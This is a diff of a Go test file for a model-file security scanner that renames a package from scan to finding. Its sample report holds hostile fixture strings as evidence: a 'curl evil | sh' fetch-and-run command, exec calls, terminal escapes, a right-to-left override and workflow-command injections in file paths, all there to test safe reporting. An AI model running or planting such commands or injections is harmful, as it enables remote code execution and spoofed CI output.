@@ -10,8 +10,7 @@ import (
 	"testing"
 
 	"github.com/google/go-cmp/cmp"
-
-	"github.com/modelgate/modelgate/scan"
+	"github.com/modelgate/modelgate/finding"
 )
 
 var update = flag.Bool("update", false, "rewrite the golden files in testdata")
@@ -19,39 +18,39 @@ var update = flag.Bool("update", false, "rewrite the golden files in testdata")
 // sampleReport is a hand-built report: a malicious PyTorch checkpoint, a
 // pickle whose strings carry terminal escapes and a workflow command, a
 // clean file, a not-scanned file and a skipped one.
-func sampleReport() *scan.Report {
-	files := []scan.FileResult{
-		{Path: "clean/weights.safetensors", Format: "safetensors", Status: scan.StatusScanned, Size: 1024},
-		{Path: "docs/readme.txt", Format: "", Status: scan.StatusSkipped, Size: 10},
-		{Path: "models/evil.pt", Format: "pytorch", Status: scan.StatusScanned, Size: 2048,
+func sampleReport() *finding.Report {
+	files := []finding.FileResult{
+		{Path: "clean/weights.safetensors", Format: "safetensors", Status: finding.StatusScanned, Size: 1024},
+		{Path: "docs/readme.txt", Format: "", Status: finding.StatusSkipped, Size: 10},
+		{Path: "models/evil.pt", Format: "pytorch", Status: finding.StatusScanned, Size: 2048,
 			Members: []string{"archive/data.pkl", "archive/version"},
-			Findings: []scan.Finding{
-				{Rule: scan.RuleUnknownImport, Severity: scan.Medium, Message: "imports unknown global mypkg.helper", Member: "archive/data.pkl", Offset: 88, Length: 20, Callable: "mypkg.helper",
-					Suppression: &scan.Suppression{Kind: "external", Justification: "our helper\n::warning::x"}},
-				{Rule: scan.RuleUnknownImport, Severity: scan.Medium, Message: "imports unknown global mypkg.other", Member: "archive/data.pkl", Offset: 99, Length: 20, Callable: "mypkg.other", Baseline: "unchanged"},
-				{Rule: scan.RuleDangerousCallable, Severity: scan.Critical, Message: "calls os.system", Member: "archive/data.pkl", Offset: 42, Length: 12, Callable: "os.system", Evidence: "os.system('curl evil | sh')"},
-				{Rule: scan.RuleDangerousCallable, Severity: scan.Critical, Message: "calls builtins.exec", Member: "archive/data.pkl", Offset: 120, Length: 14, Callable: "builtins.exec", Evidence: "builtins.exec('import os')"},
+			Findings: []finding.Finding{
+				{Rule: finding.RuleUnknownImport, Severity: finding.Medium, Message: "imports unknown global mypkg.helper", Member: "archive/data.pkl", Offset: 88, Length: 20, Callable: "mypkg.helper",
+					Suppression: &finding.Suppression{Kind: "external", Justification: "our helper\n::warning::x"}},
+				{Rule: finding.RuleUnknownImport, Severity: finding.Medium, Message: "imports unknown global mypkg.other", Member: "archive/data.pkl", Offset: 99, Length: 20, Callable: "mypkg.other", Baseline: "unchanged"},
+				{Rule: finding.RuleDangerousCallable, Severity: finding.Critical, Message: "calls os.system", Member: "archive/data.pkl", Offset: 42, Length: 12, Callable: "os.system", Evidence: "os.system('curl evil | sh')"},
+				{Rule: finding.RuleDangerousCallable, Severity: finding.Critical, Message: "calls builtins.exec", Member: "archive/data.pkl", Offset: 120, Length: 14, Callable: "builtins.exec", Evidence: "builtins.exec('import os')"},
 			}},
-		{Path: "odd dir/x:y.pkl", Format: "pickle", Status: scan.StatusPartial, Size: 64,
-			Findings: []scan.Finding{
-				{Rule: scan.RuleMalformedPickle, Severity: scan.Medium, Message: "stream ends without STOP at offset 60", Offset: 60, Length: 1},
-				{Rule: scan.RuleUnknownCall, Severity: scan.High, Message: "calls evil.run with ('\x1b[31m::error::pwned\n',)", Offset: 3, Length: 9, Callable: "evil.run\u202e", Evidence: "evil.run('\x1b[31m::error::pwned\\n')"},
+		{Path: "odd dir/x:y.pkl", Format: "pickle", Status: finding.StatusPartial, Size: 64,
+			Findings: []finding.Finding{
+				{Rule: finding.RuleMalformedPickle, Severity: finding.Medium, Message: "stream ends without STOP at offset 60", Offset: 60, Length: 1},
+				{Rule: finding.RuleUnknownCall, Severity: finding.High, Message: "calls evil.run with ('\x1b[31m::error::pwned\n',)", Offset: 3, Length: 9, Callable: "evil.run\u202e", Evidence: "evil.run('\x1b[31m::error::pwned\\n')"},
 			}},
-		{Path: "big/model.bin", Format: "pickle", Status: scan.StatusNotScanned, Size: 1 << 30,
-			Findings: []scan.Finding{
-				{Rule: scan.RuleUnscannable, Severity: scan.High, Message: "file exceeds the 512 MiB size limit", Offset: -1},
+		{Path: "big/model.bin", Format: "pickle", Status: finding.StatusNotScanned, Size: 1 << 30,
+			Findings: []finding.Finding{
+				{Rule: finding.RuleUnscannable, Severity: finding.High, Message: "file exceeds the 512 MiB size limit", Offset: -1},
 			}},
-		{Path: "::error file=x::owned.pkl", Format: "pickle", Status: scan.StatusScanned, Size: 64,
-			Findings: []scan.Finding{
-				{Rule: scan.RuleUnknownImport, Severity: scan.Low, Message: "::warning::message from the file", Offset: 7},
+		{Path: "::error file=x::owned.pkl", Format: "pickle", Status: finding.StatusScanned, Size: 64,
+			Findings: []finding.Finding{
+				{Rule: finding.RuleUnknownImport, Severity: finding.Low, Message: "::warning::message from the file", Offset: 7},
 			}},
 	}
-	return &scan.Report{Files: files, Summary: scan.Summarize(files, 2)}
+	return &finding.Report{Files: files, Summary: finding.Summarize(files, 2)}
 }
 
-func cleanReport() *scan.Report {
-	files := []scan.FileResult{{Path: "w.safetensors", Format: "safetensors", Status: scan.StatusScanned, Size: 8}}
-	return &scan.Report{Files: files, Summary: scan.Summarize(files, 0)}
+func cleanReport() *finding.Report {
+	files := []finding.FileResult{{Path: "w.safetensors", Format: "safetensors", Status: finding.StatusScanned, Size: 8}}
+	return &finding.Report{Files: files, Summary: finding.Summarize(files, 0)}
 }
 
 func golden(t *testing.T, name string, got []byte) {
@@ -75,13 +74,13 @@ func golden(t *testing.T, name string, got []byte) {
 func TestText(t *testing.T) {
 	tests := []struct {
 		name   string
-		report *scan.Report
+		report *finding.Report
 		opts   TextOptions
 	}{
 		{"findings", sampleReport(), TextOptions{}},
 		{"findings_color", sampleReport(), TextOptions{Color: true}},
 		{"clean", cleanReport(), TextOptions{}},
-		{"empty", &scan.Report{Summary: scan.Summarize(nil, 0)}, TextOptions{}},
+		{"empty", &finding.Report{Summary: finding.Summarize(nil, 0)}, TextOptions{}},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -171,10 +170,10 @@ func TestJSON(t *testing.T) {
 func TestSummaryLine(t *testing.T) {
 	tests := []struct {
 		name string
-		sum  scan.Summary
+		sum  finding.Summary
 		want string
 	}{
-		{"none", scan.Summarize(nil, 0), "modelgate: 0 model files; no findings"},
+		{"none", finding.Summarize(nil, 0), "modelgate: 0 model files; no findings"},
 		{"clean", cleanReport().Summary, "modelgate: 1 model file (1 safetensors); no findings"},
 		{"findings", sampleReport().Summary, "modelgate: 5 model files (3 pickle, 1 pytorch, 1 safetensors), 1 partly scanned, 1 not scanned, 1 other file skipped, 2 excluded; 6 findings: 2 critical, 2 high, 1 medium, 1 low; 1 suppressed by the policy file; 1 already in the baseline"},
 	}
